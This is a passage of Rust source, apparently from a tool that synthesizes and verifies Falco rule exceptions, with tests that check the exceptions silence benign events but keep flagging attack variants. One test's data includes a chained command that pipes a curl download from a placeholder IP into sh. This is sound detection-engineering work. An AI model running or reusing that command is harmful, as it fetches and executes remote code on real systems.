    let mut widened = None;
    for p in 0..per_part.len() {
        for f in 0..per_part.get(p)?.len() {
            let (Some(ladder), Some(&at)) = (
                per_part.get(p).and_then(|l| l.get(f)),
                rungs.get(p).and_then(|r| r.get(f)),
            ) else {
                continue;
            };
            for r in (at + 1..ladder.len()).rev() {
                let mut trial = rungs.clone();
                if let Some(slot) = trial.get_mut(p).and_then(|t| t.get_mut(f)) {
                    *slot = r;
                }
                let Some((exs, g)) = assemble(&parts, &per_part, &trial) else {
                    continue;
                };
                let block = block_yaml(vf.rule(), &exs, style);
                let quick = vf.verify_without_history(&block, legacy);
                if !can_pass(&quick) || quick.mutations_silenced > current.mutations_silenced {
                    continue;
                }
                let v = vf.verify(&block, legacy);
                if v.passed && v.mutations_silenced <= current.mutations_silenced {
                    rungs = trial;
                    current = v.clone();
                    widened = Some((g, exs, block, v));
                    break;
                }
            }
        }
    }
    widened
}

/// Synthesizes and verifies candidate exceptions for the verifier's rule.
pub fn synthesize(vf: &Verifier<'_>, opts: &Options) -> Result<Proposal, SynthError> {
    synthesize_with_progress(vf, opts, &|_, _| {})
}

/// [`synthesize`], reporting `(candidates verified, candidates)` to `progress` as the
/// candidates are verified (the long part on a large history).
pub fn synthesize_with_progress(
    vf: &Verifier<'_>,
    opts: &Options,
    progress: ProgressFn<'_>,
) -> Result<Proposal, SynthError> {
    if vf.benign_given() == 0 {
        return Err(SynthError::NoBenign);
    }
    let benign: Vec<&Record> = vf.benign_alerting().collect();
    if benign.is_empty() {
        return Err(SynthError::BenignDoNotAlert {
            rule: vf.rule().to_string(),
            given: vf.benign_given(),
        });
    }
    let built = candidates(vf.rule(), &benign, style_of(opts));
    let firsts = verify_ranked(
        vf,
        &built,
        opts.legacy,
        opts.max_alternatives.saturating_add(1),
        progress,
    );
    let mut ranked: Vec<Ranked<'_>> = built
        .into_iter()
        .zip(firsts)
        .map(|((o, t, g, e, b), v)| (o, t, g, e, b, v))
        .collect();
    ranked.sort_by_key(|(o, _, g, _, _, v)| rank_key(v, *g, *o));
    // One candidate per template, its best: alternatives show other shapes of exception
    // (another set of fields), not the same fields widened one level more or less.
    let mut templates: BTreeSet<&str> = BTreeSet::new();
    ranked.retain(|(_, t, ..)| templates.insert(t));
    if let Some(first) = ranked.first_mut().filter(|r| r.5.passed) {
        if let Some((g, exs, block, v)) =
            widen_fields(vf, &benign, first, style_of(opts), opts.legacy)
        {
            first.2 = g;
            first.3 = exs;
            first.4 = block;
            first.5 = v;
        }
    }
    let max = opts.max_alternatives;
    // Only what is returned gets its final text (header + block) built and verified.
    let cands: Vec<Candidate> = ranked
        .into_iter()
        .take(max.saturating_add(1))
        .map(|(_, t, g, exs, block, first)| {
            let (yaml, verification) = finalize(vf, &block, first, opts, uses_regex(&exs));
            Candidate {
                template: t.to_string(),
                generality: g,
                exceptions: exs,
                yaml,
                verification,
            }
        })
        .collect();
    let mut it = cands.into_iter();
    let Some(best) = it.next() else {
        return Err(SynthError::NoSeparation(
            "the benign events share no usable stable field (values differ too much, or hold characters Falco's exception quoting cannot carry)".into(),
        ));
    };
    if !best.verification.passed {
        let v = &best.verification;
        if v.keep_alerting < v.keep_total {
            return Err(SynthError::NoSeparation(format!(
                "the best candidate ({}) also silences {} keep event(s), e.g. {}",
                best.template,
                v.keep_total - v.keep_alerting,
                v.keep_silenced.first().cloned().unwrap_or_default()
            )));
        }
        if let Some(b) = v.blocking.first() {
            let why = match b.verdict.as_str() {
                "marked_real" => "a person marked real".to_string(),
                "not_triaged" => "triage did not rate (another rule matched it first)".to_string(),
                other => format!("triage rates {other}"),
            };
            return Err(SynthError::Blocked {
                rule: b.rule.clone(),
                why,
                description: b.description.clone(),
                cluster: b.cluster.clone(),
            });
        }
        let why = if !v.loads {
            format!(
                "no candidate loads cleanly: {}",
                v.errors
                    .iter()
                    .chain(&v.warnings)
                    .next()
                    .cloned()
                    .unwrap_or_default()
            )
        } else {
            format!(
                "no candidate silences every benign event; still alerting: {}",
                v.benign_still_alerting.first().cloned().unwrap_or_default()
            )
        };
        return Err(SynthError::NoSeparation(why));
    }
    let alternatives = it.collect();
    Ok(Proposal {
        rule: vf.rule().to_string(),
        best,
        alternatives,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::parse_records;
    use crate::verify::RulesFile;

    const RULES: &str = r#"
- rule: Clear Log Activities
  desc: log cleared
  condition: (evt.type in (unlink, unlinkat) and fs.path.name startswith /var/log/) or (evt.type = openat and fd.name startswith /var/log/)
  output: log cleared (path=%fs.path.name file=%fd.name process=%proc.name exepath=%proc.exepath parent=%proc.pname)
  priority: WARNING
- rule: Outbound Connection
  desc: any connect
  condition: evt.type = connect and fd.sip exists
  output: connect (%fd.name %proc.name)
  priority: NOTICE
"#;

    fn rules() -> Vec<RulesFile> {
        vec![RulesFile {
            name: "rules.yaml".into(),
            text: RULES.into(),
        }]
    }

    fn del(exe: &str, parent: &str, gp: &str, path: &str, image: &str) -> String {
        let name = exe.rsplit('/').next().unwrap();
        format!(
            r#"{{"evt.type":"unlinkat","proc.name":"{name}","proc.exepath":"{exe}","proc.pname":"{parent}","proc.aname[1]":"{parent}","proc.aname[2]":"{gp}","fs.path.name":"{path}","container.image.repository":"{image}","proc.cmdline":"{name} {path}"}}"#
        )
    }

    /// The uniform levels widen every field at once; one field's wider rung that takes a
    /// keep event must not hold back another field's harmless one.
    #[test]
    fn fields_widen_one_at_a_time() {
        let rules = rules();
        let benign = parse_records(
            &del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd"),
            "benign.jsonl",
        )
        .unwrap();
        // The same deletion by the same name from another system directory must keep
        // alerting: the executable stays `=`, yet the target still takes its family.
        let keep = parse_records(
            &del("/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd"),
            "keep",
        )
        .unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        let ex = &p.best.exceptions[0];
        assert!(p.best.verification.passed, "{:#?}", p.best);
        let comp = |f: &str| {
            ex.fields
                .iter()
                .position(|x| x == f)
                .and_then(|i| ex.comps.get(i))
                .cloned()
        };
        assert_eq!(comp("proc.exepath").as_deref(), Some("="), "{ex:?}");
        assert_eq!(comp("fs.path.name").as_deref(), Some("pmatch"), "{ex:?}");
        assert_eq!(ex.name, "rm_deletes_package_logs");
        // The widened block is what was verified: the next package log is silenced, the
        // keep event and the security log are not.
        let text = &p.best.yaml;
        let other = parse_records(
            &[
                del(
                    "/usr/bin/rm",
                    "bash",
                    "runc",
                    "/var/log/apt/history.log",
                    "httpd",
                ),
                del("/usr/bin/rm", "bash", "runc", "/var/log/auth.log", "httpd"),
            ]
            .join("\n"),
            "o",
        )
        .unwrap();
        let vf2 = Verifier::new(
            &rules,
            "Clear Log Activities",
            &other[..1],
            &other[1..],
            &[],
        )
        .unwrap();
        let v = vf2.verify(text, false);
        assert_eq!(v.benign_silenced, 1, "{v:#?}");
        assert_eq!(v.keep_alerting, 1, "{v:#?}");
    }

    #[test]
    fn narrowest_exception_keeps_the_attack() {
        let rules = rules();
        let benign = parse_records(
            &del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd"),
            "benign.jsonl",
        )
        .unwrap();
        // The attack variant: same binary, same file, same image, but from the web server's shell.
        let keep = parse_records(
            &del("/usr/bin/rm", "sh", "httpd", "/var/log/dpkg.log", "httpd"),
            "keep",
        )
        .unwrap();
        let hist = parse_records(
            &[
                del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd"),
                del("/usr/bin/rm", "bash", "runc", "/var/log/auth.log", "httpd"),
            ]
            .join("\n"),
            "h",
        )
        .unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &hist).unwrap();
        let p = synthesize(
            &vf,
            &Options {
                provenance: vec!["1 benign event from benign.jsonl".into()],
                max_alternatives: 5,
                ..Options::default()
            },
        )
        .unwrap();
        let b = &p.best;
        assert!(b.verification.passed, "{b:#?}");
        assert_eq!(b.template, "actor+parent+target+workload");
        assert_eq!(
            b.exceptions[0].fields,
            vec![
                "proc.exepath",
                "proc.pname",
                "fs.path.name",
                "container.image.repository"
            ]
        );
        // The package manager's other logs are the same target (a family of paths).
        assert_eq!(b.exceptions[0].name, "rm_deletes_package_logs");
        assert_eq!(b.verification.blast_radius.silenced, 1);
        assert_eq!(b.verification.blast_radius.outside_benign_set, 0);
        assert!(b
            .yaml
            .starts_with("# quell tune: exception for rule \"Clear Log Activities\""));
        assert!(b
            .yaml
            .contains("# Provenance: 1 benign event from benign.jsonl\n"));
        assert!(b.yaml.contains("  override:\n    exceptions: append\n"));
        // The near-attacks: the web server's shell and another target keep alerting.
        let m = &b.verification.mutations;
        assert!(
            m.iter().any(|m| m.kind == "service_shell" && !m.silenced),
            "{m:#?}"
        );
        assert!(m.iter().any(|m| m.kind == "other_image" && !m.silenced));
        assert_eq!(b.verification.mutations_silenced, 0, "{m:#?}");
        assert!(
            b.yaml
                .contains("#   near-attacks made from the benign events: "),
            "{}",
            b.yaml
        );
        // The printed text is the verified text.
        assert_eq!(vf.verify(&b.yaml, false), b.verification);
        // One candidate per template: alternatives are other shapes of exception, not the
        // same fields one widening level apart (the executable's `=` and its `in` over the
        // system directories).
        let templates: BTreeSet<&str> = std::iter::once(&p.best)
            .chain(&p.alternatives)
            .map(|c| c.template.as_str())
            .collect();
        assert_eq!(templates.len(), 1 + p.alternatives.len(), "{templates:?}");
        // Alternatives are ranked: passing ones before failing ones; a failing one says why.
        let passing: Vec<bool> = p
            .alternatives
            .iter()
            .map(|c| c.verification.passed)
            .collect();
        assert!(passing.windows(2).all(|w| w[0] >= w[1]), "{passing:?}");
        assert!(p
            .alternatives
            .iter()
            .any(|c| !c.verification.passed && c.verification.keep_alerting == 0));
    }

    /// The seed story's records, and the operator's deletion among them (the benign set).
    fn seed_story() -> (Vec<Record>, Vec<Record>) {
        let history =
            parse_records(include_str!("../../../examples/seed.jsonl"), "seed.jsonl").unwrap();
        let benign = history
            .iter()
            .filter(|r| {
                text(&r.event, "proc.cmdline").as_deref() == Some("rm /var/log/dpkg.log")
                    && text(&r.event, "evt.type").as_deref() == Some("unlinkat")
            })
            .cloned()
            .collect();
        (history, benign)
    }

    /// The legacy form written from the rules-editor form's verification is the text and
    /// verification [`emit_verified`] gives (one verification instead of two); a wrong
    /// expectation falls back to verifying the block first.
    #[test]
    fn legacy_form_from_the_verified_form_is_the_same() {
        let rules = rules();
        let (history, benign) = seed_story();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &history).unwrap();
        let opts = Options {
            provenance: vec!["seed".into()],
            ..Options::default()
        };
        let p = synthesize(&vf, &opts).unwrap();
        let legacy = Options {
            legacy: true,
            ..opts
        };
        let two = emit_verified(&vf, &p.best.exceptions, &legacy);
        assert!(two.1.passed, "{two:#?}");
        assert!(two.0.contains("append: true"), "{}", two.0);
        let one = emit_verified_as(&vf, &p.best.exceptions, &legacy, &p.best.verification);
        assert_eq!(one, two);
        let mut wrong = p.best.verification.clone();
        wrong.benign_silenced = 0;
        assert_eq!(
            emit_verified_as(&vf, &p.best.exceptions, &legacy, &wrong),
            two
        );
    }

    /// The seed story with only the history (no keep set): the web shell's deletion in
    /// the history is triaged likely real, so the candidate that would silence it is
    /// refused and a narrower one (the grandparent: the runtime, not the web server) wins.
    #[test]
    fn history_attack_refuses_the_broad_candidate() {
        let rules = rules();
        let (history, benign) = seed_story();
        assert_eq!(benign.len(), 1);
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &history).unwrap();
        let p = synthesize(
            &vf,
            &Options {
                max_alternatives: 40,
                ..Options::default()
            },
        )
        .unwrap();
        let v = &p.best.verification;
        assert!(v.passed, "{v:#?}");
        assert_eq!(v.blast_radius.blocking, 0);
        assert_eq!(v.blast_radius.silenced, 1, "{}", p.best.yaml);
        assert!(
            p.best.exceptions[0]
                .fields
                .contains(&"proc.aname[2]".to_string()),
            "{}",
            p.best.yaml
        );
        // The broad candidate is among the alternatives, refused, naming the web shell's deletion.
        let broad = p
            .alternatives
            .iter()
            .find(|c| c.template == "actor+parent+target+workload")
            .expect("the broad candidate is reported");
        assert!(!broad.verification.passed);
        let b = &broad.verification.blocking[0];
        assert_eq!(b.verdict, "likely_real");
        assert!(b.description.contains("rm -f /var/log/dpkg.log"), "{b:?}");
        assert_eq!(broad.verification.blast_radius.blocking, 1);
    }

    /// Checking the history only of the candidates that can still pass, in ranking order,
    /// ranks first what verifying every candidate over the history ranks first: on the seed
    /// story (the broadest candidate silences the web shell's deletion and fails over the
    /// history), and when no candidate passes (everything is then verified).
    #[test]
    fn the_history_of_the_leading_candidates_ranks_as_the_whole() {
        let rules = rules();
        let (history, benign) = seed_story();
        let ranked_first = |vs: &[Verification], built: &[Built], n: usize| -> Vec<usize> {
            let mut idx: Vec<usize> = (0..built.len()).collect();
            idx.sort_by_key(|&i| rank_key(&vs[i], built[i].2, built[i].0));
            idx.truncate(n);
            idx
        };
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &history).unwrap();
        let b: Vec<&Record> = vf.benign_alerting().collect();
        let built = candidates(vf.rule(), &b, Style::Override);
        assert!(built.len() > 3, "{}", built.len());
        let blocks: Vec<String> = built.iter().map(|c| c.4.clone()).collect();
        let whole = verify_all(&vf, &blocks, false, true, &|_, _| {});
        assert!(
            whole
                .iter()
                .any(|v| !v.passed && v.blast_radius.blocking > 0),
            "a candidate fails over the history"
        );
        for wanted in [1, 2, 3, built.len(), built.len() + 1] {
            let lazy = verify_ranked(&vf, &built, false, wanted, &|_, _| {});
            let (a, b) = (
                ranked_first(&lazy, &built, wanted),
                ranked_first(&whole, &built, wanted),
            );
            assert_eq!(a, b, "wanted {wanted}");
            for i in a {
                assert_eq!(lazy[i], whole[i], "wanted {wanted}, candidate {i}");
            }
        }
        // Only the leading candidate's history was needed for the best.
        let lazy = verify_ranked(&vf, &built, false, 1, &|_, _| {});
        assert!(
            lazy.iter()
                .filter(|v| v.blast_radius.history_alerts > 0)
                .count()
                < built.len(),
            "every candidate was checked over the history"
        );

        // Several candidates pass (a rotation job's deletions, its history of the same job
        // on other files): the ranking among them decides the best.
        let rot = |path: &str| del("/usr/sbin/logrotate", "cron", "cron", path, "app");
        let benign = parse_records(&rot("/var/log/app/svc-1.log.7"), "b").unwrap();
        let hist = parse_records(
            &[
                rot("/var/log/app/svc-1.log.7"),
                rot("/var/log/app/svc-2.log.7"),
                rot("/var/log/app/svc-3.log.7"),
            ]
            .join("\n"),
            "h",
        )
        .unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
        let b: Vec<&Record> = vf.benign_alerting().collect();
        let built = candidates(vf.rule(), &b, Style::Override);
        let blocks: Vec<String> = built.iter().map(|c| c.4.clone()).collect();
        let whole = verify_all(&vf, &blocks, false, true, &|_, _| {});
        let passing: Vec<(usize, u32)> = whole
            .iter()
            .zip(&built)
            .filter(|(v, _)| v.passed)
            .map(|(v, c)| (v.mutations_silenced, c.2))
            .collect();
        assert!(passing.len() > 2, "{passing:?}");
        for wanted in [1, 2, 3] {
            let lazy = verify_ranked(&vf, &built, false, wanted, &|_, _| {});
            let a = ranked_first(&lazy, &built, wanted);
            assert_eq!(a, ranked_first(&whole, &built, wanted), "wanted {wanted}");
            for i in a {
                assert_eq!(lazy[i], whole[i], "wanted {wanted}, candidate {i}");
            }
        }

        // No candidate passes: every one is verified over the history.
        let (benign, real) = deletion_and_its_twin_marked_real();
        let hist = parse_records(&real.to_string(), "h").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
        let b: Vec<&Record> = vf.benign_alerting().collect();
        let built = candidates(vf.rule(), &b, Style::Override);
        let blocks: Vec<String> = built.iter().map(|c| c.4.clone()).collect();
        let whole = verify_all(&vf, &blocks, false, true, &|_, _| {});
        assert!(whole.iter().all(|v| !v.passed));
        let lazy = verify_ranked(&vf, &built, false, 1, &|_, _| {});
        assert_eq!(lazy, whole);
    }

    /// An operator's deletion as the benign set, and the same action differing only in a
    /// field no exception keys on (its pid), marked real by a person.
    fn deletion_and_its_twin_marked_real() -> (Vec<Record>, serde_json::Value) {
        let line = del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd");
        let benign = parse_records(&line, "b").unwrap();
        let mut real: serde_json::Value = serde_json::from_str(&line).unwrap();
        real["proc.pid"] = 4242.into();
        real["quell.decision"] = "real".into();
        (benign, real)
    }

    #[test]
    fn blocked_when_every_candidate_silences_an_alert_marked_real() {
        let rules = rules();
        // The twin marked real also carries an escape sequence in its command line.
        let (benign, mut real) = deletion_and_its_twin_marked_real();
        real["proc.cmdline"] = "rm /var/log/dpkg.log \u{1b}[2J".into();
        real["proc.pcmdline"] = "x".into();
        let hist = parse_records(&real.to_string(), "h").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
        match synthesize(&vf, &Options::default()) {
            Err(SynthError::Blocked {
                why,
                description,
                rule,
                ..
            }) => {
                assert_eq!(why, "a person marked real");
                assert_eq!(rule, "Clear Log Activities");
                assert!(!description.contains('\u{1b}'), "{description}");
                assert!(description.contains("\\x1b[2J"), "{description}");
            }
            // Candidates keyed on the command line tell them apart: then it passes and
            // does not silence the marked alert.
            Ok(p) => {
                assert!(p.best.verification.passed);
                assert_eq!(
                    p.best.verification.blast_radius.marked_real, 0,
                    "{}",
                    p.best.yaml
                );
            }
            Err(e) => panic!("{e}"),
        }
        // Without the command line to tell them apart, tune refuses and says why.
        real["proc.cmdline"] = "rm /var/log/dpkg.log".into();
        real["proc.exepath"] = "/usr/bin/rm".into();
        let hist = parse_records(&real.to_string(), "h").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
        let e = synthesize(&vf, &Options::default()).unwrap_err();
        assert!(matches!(e, SynthError::Blocked { .. }), "{e}");
        let msg = e.to_string();
        assert!(
            msg.contains("a person marked real") && msg.contains("line 1: rm /var/log/dpkg.log"),
            "{msg}"
        );
    }

    #[test]
    fn mixed_truncate_and_delete_get_two_readable_exceptions() {
        let rules = rules();
        let trunc = r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_TRUNC","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fd.name":"/var/log/app/web.log"}"#;
        let trunc2 = r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_TRUNC","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fd.name":"/var/log/app/worker.log"}"#;
        let delete = r#"{"evt.type":"unlinkat","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fs.path.name":"/var/log/app.log.5"}"#;
        let benign = parse_records(&[trunc, trunc2, delete].join("\n"), "b").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &[]).unwrap();
        let p = synthesize(
            &vf,
            &Options {
                legacy: true,
                ..Options::default()
            },
        )
        .unwrap();
        assert_eq!(p.best.exceptions.len(), 2);
        assert_eq!(p.best.exceptions[0].name, "logrotate_truncates_var_log_app");
        assert_eq!(p.best.exceptions[0].comps[2], "startswith");
        assert_eq!(p.best.exceptions[1].name, "logrotate_deletes_app_log");
        assert_eq!(p.best.exceptions[1].comps[2], "glob");
        assert!(p.best.yaml.ends_with("  append: true\n"));
        assert!(p.best.verification.passed);
        // The next rotation and another file of the directory are silenced too; a log
        // elsewhere is not.
        let mut e = quell_rules::engine::Engine::new();
        e.load("rules.yaml", RULES);
        assert!(e.load("local.yaml", &p.best.yaml).successful);
        let r = e.rule("Clear Log Activities").unwrap();
        let ev = |l: &str| quell_events::FlatEvent::from_json_line(l).unwrap();
        assert!(!r.matches(&ev(&delete.replace("app.log.5", "app.log.6"))));
        assert!(!r.matches(&ev(&trunc.replace("web.log", "api.log"))));
        assert!(r.matches(&ev(
            &trunc.replace("/var/log/app/web.log", "/var/log/auth.log")
        )));
        assert!(r.matches(&ev(&delete.replace("app.log.5", "auth.log"))));
    }

    #[test]
    fn connections_key_on_the_server_and_interpreters_on_their_script() {
        let rules = rules();
        let conn = |client_port: u32, sip: &str, script: &str| {
            format!(
                r#"{{"evt.type":"connect","proc.name":"python3","proc.exepath":"/usr/bin/python3.11","proc.cmdline":"python3 {script} --all","proc.pname":"cron","fd.sip":"{sip}","fd.sport":5432,"fd.cport":{client_port},"fd.name":"10.0.0.5:{client_port}->{sip}:5432"}}"#
            )
        };
        let benign = parse_records(
            &[
                conn(43122, "10.0.3.7", "/opt/backup/push.py"),
                conn(51000, "10.0.3.9", "/opt/backup/push.py"),
            ]
            .join("\n"),
            "b",
        )
        .unwrap();
        let vf = Verifier::new(&rules, "Outbound Connection", &benign, &[], &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        let ex = &p.best.exceptions[0];
        assert!(
            !ex.fields
                .iter()
                .any(|f| f == "fd.cport" || f == "fd.name" || f == "fd.lport"),
            "{ex:?}"
        );
        assert!(ex.fields.contains(&"proc.cmdline".to_string()), "{ex:?}");
        assert!(ex.fields.contains(&"fd.sport".to_string()), "{ex:?}");
        assert!(
            ex.fields.iter().any(|f| f == "fd.snet" || f == "fd.sip"),
            "{ex:?}"
        );
        assert_eq!(ex.name, "push_py_connects_to_postgres");
        assert!(p.best.verification.passed, "{:#?}", p.best.verification);
        let m = &p.best.verification.mutations;
        assert!(
            m.iter().any(|m| m.kind == "other_script" && !m.silenced),
            "{m:#?}"
        );
        assert!(
            m.iter().any(|m| m.kind == "other_target" && !m.silenced),
            "{m:#?}"
        );
        let mut e = quell_rules::engine::Engine::new();
        e.load("rules.yaml", RULES);
        assert!(e.load("local.yaml", &p.best.yaml).successful);
        let r = e.rule("Outbound Connection").unwrap();
        let ev = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
        // The next connection (another client port, another server of the network) is silenced.
        assert!(!r.matches(&ev(conn(60001, "10.0.3.8", "/opt/backup/push.py"))));
        // Another script of the same interpreter, or another server, still alerts.
        assert!(r.matches(&ev(conn(60001, "10.0.3.8", "/tmp/x.py"))));
        assert!(r.matches(&ev(conn(60001, "203.0.113.7", "/opt/backup/push.py"))));
    }

    /// A build tool's generated test binaries: the next one (another name, another build
    /// directory) is silenced, the same name dropped elsewhere is not, and the name says
    /// what is excepted (not the one binary seen).
    #[test]
    fn generated_binaries_of_a_build_tool() {
        let rules = vec![RulesFile {
            name: "r.yaml".into(),
            text: "- rule: Exec From Shm\n  desc: d\n  condition: evt.type = execve and proc.exepath startswith /dev/shm/\n  output: o %proc.exepath\n  priority: WARNING\n".into(),
        }];
        let ev = |exe: &str| {
            let name = exe.rsplit('/').next().unwrap();
            format!(
                r#"{{"evt.type":"execve","proc.name":"{name}","proc.exepath":"{exe}","proc.cmdline":"{name} -test.paniconexit0 -test.timeout=10m0s","proc.pname":"go","proc.aname[2]":"bash","user.name":"runner"}}"#
            )
        };
        let benign =
            parse_records(&ev("/dev/shm/go-build1772003311/b052/queue.test"), "b").unwrap();
        let vf = Verifier::new(&rules, "Exec From Shm", &benign, &[], &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        assert!(p.best.verification.passed, "{:#?}", p.best.verification);
        let mut e = quell_rules::engine::Engine::new();
        e.load("r.yaml", &rules[0].text);
        assert!(e.load("local.yaml", &p.best.yaml).successful);
        let r = e.rule("Exec From Shm").unwrap();
        let f = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
        assert!(
            !r.matches(&f(ev("/dev/shm/go-build3001299410/b017/worker.test"))),
            "{}",
            p.best.yaml
        );
        assert!(
            r.matches(&f(ev("/dev/shm/.x/worker.test"))),
            "{}",
            p.best.yaml
        );
        assert!(r.matches(&f(ev("/dev/shm/go-build3001299410/b017/worker"))));
        assert_eq!(p.best.exceptions[0].name, "test_binary_runs");
    }

    /// An agent's shell running its scripts: the exception takes the next script of the
    /// same directory (a regex with no blank or metacharacter), never a chained command,
    /// and is named after the directory it runs from.
    #[test]
    fn shell_programs_of_an_agent_take_its_next_script() {
        let rules = vec![RulesFile {
            name: "r.yaml".into(),
            text: "- rule: Shell From Agent\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  output: o %proc.cmdline\n  priority: WARNING\n".into(),
        }];
        let ev = |cmd: &str| {
            serde_json::json!({"evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh",
                "proc.cmdline": cmd, "proc.pname": "fluentd", "proc.aname[2]": "containerd-shim",
                "user.name": "root", "container.image.repository": "cr.fluentd.org/fluentd",
                "k8s.ns.name": "logging"})
            .to_string()
        };
        let benign = parse_records(&ev("sh -c /fluentd/scripts/nvme_smart.sh"), "b").unwrap();
        let vf = Verifier::new(&rules, "Shell From Agent", &benign, &[], &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        assert!(p.best.verification.passed, "{:#?}", p.best.verification);
        let mut e = quell_rules::engine::Engine::new();
        e.load("r.yaml", &rules[0].text);
        assert!(e.load("local.yaml", &p.best.yaml).successful);
        let r = e.rule("Shell From Agent").unwrap();
        let f = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
        assert!(
            !r.matches(&f(ev("sh -c /fluentd/scripts/iostat_collect.sh"))),
            "{}",
            p.best.yaml
        );
        assert!(r.matches(&f(ev(
            "sh -c /fluentd/scripts/nvme_smart.sh; curl -s http://203.0.113.7/x | sh"
        ))));
        assert!(r.matches(&f(ev("sh -c /tmp/nvme_smart.sh"))));
        assert_eq!(p.best.exceptions[0].name, "fluentd_scripts_sh_runs");
    }

    /// Names a person can read: a pattern's syntax never shows (`mail_lists`, not
    /// `a_za_z`), a process name the kernel cut at 15 characters is the executable's whole
    /// name, and a printed regex says which Falco loads it.
    #[test]
    fn names_carry_no_pattern_syntax_nor_a_cut_process_name() {
        assert_eq!(
            regex_files("sh -c formail -ds >> /home/[A-Za-z0-9_-]+/Mail/lists/[A-Za-z0-9_-]+")
                .as_deref(),
            Some("Mail_lists")
        );
        assert_eq!(
            regex_files("sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh").as_deref(),
            Some("fluentd_scripts_sh")
        );
        assert_eq!(
            regex_files("sh -c gzip -c > /var/lib/postgresql/exports/[A-Za-z0-9_-]+[.]csv[.]gz")
                .as_deref(),
            Some("postgresql_exports_csv_gz")
        );
        assert_eq!(
            regex_files(
                "sh -c /usr/bin/x /etc/postgresql/[0-9]+([.][0-9]+)*/main/[A-Za-z0-9_-]+[.]key"
            )
            .as_deref(),
            Some("postgresql_main_key")
        );
        let ev = |name: &str, exe: &str| {
            FlatEvent::from_json_line(
                &serde_json::json!({"evt.type": "execve", "proc.name": name, "proc.exepath": exe})
                    .to_string(),
            )
            .unwrap()
        };
        assert_eq!(
            actor_name(&ev("mkhomedir_helpe", "/usr/sbin/mkhomedir_helper")),
            "mkhomedir_helper"
        );
        assert_eq!(actor_name(&ev("cron", "/usr/sbin/cron")), "cron");
        // A 15-character name that is not a cut of the executable's stays as it is.
        assert_eq!(
            actor_name(&ev("abcdefghijklmno", "/usr/bin/zzz")),
            "abcdefghijklmno"
        );
        let rules = vec![RulesFile {
            name: "r.yaml".into(),
            text: "- rule: Shell From Agent\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  output: o %proc.cmdline\n  priority: WARNING\n".into(),
        }];
        let one = |cmd: &str| {
            serde_json::json!({"evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh",
                "proc.cmdline": cmd, "proc.pname": "procmail", "user.name": "alice"})
            .to_string()
        };
        let benign = parse_records(
            &one("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce"),
            "b",
        )
        .unwrap();
        let vf = Verifier::new(&rules, "Shell From Agent", &benign, &[], &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        assert_eq!(p.best.exceptions[0].comps[1], "regex", "{}", p.best.yaml);
        assert_eq!(p.best.exceptions[0].name, "mail_lists_runs");
        assert!(
            p.best.yaml.contains("Falco 0.39.0 or later"),
            "{}",
            p.best.yaml
        );
    }

    /// Where the parent alone (a shell) is shared with attacks, the lineage goes in: the
    /// grandparent (`proc.aname[2]`) or, where the depth varies, any ancestor (unindexed
    /// `proc.aname`), each a verified candidate.
    #[test]
    fn ancestors_tell_a_cron_shell_from_a_web_shell() {
        let rules = rules();
        let ev = |chain: &[&str], pid: u32| {
            let mut j = serde_json::json!({"evt.type":"unlinkat","proc.pid":pid,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm /var/log/app/old.log","fs.path.name":"/var/log/app/old.log","proc.pname":chain[0]});
            for (i, a) in chain.iter().enumerate() {
                j[format!("proc.aname[{}]", i + 1)] = (*a).into();
            }
            j.to_string()
        };
        let benign = parse_records(
            &[
                ev(&["sh", "cron", "init"], 1),
                ev(&["sh", "sh", "cron", "init"], 2),
            ]
            .join("\n"),
            "b",
        )
        .unwrap();
        let keep = parse_records(&ev(&["sh", "httpd", "containerd-shim"], 3), "k").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &[]).unwrap();
        let p = synthesize(
            &vf,
            &Options {
                max_alternatives: 40,
                ..Options::default()
            },
        )
        .unwrap();
        assert!(p.best.verification.passed);
        assert!(
            p.best.exceptions[0]
                .fields
                .iter()
                .any(|f| f.starts_with("proc.aname")),
            "{}",
            p.best.yaml
        );
        let anc = std::iter::once(&p.best)
            .chain(&p.alternatives)
            .find(|c| c.template == "actor+parent+ancestor+target+workload")
            .expect("an any-ancestor candidate");
        assert!(anc.verification.passed, "{:#?}", anc.verification);
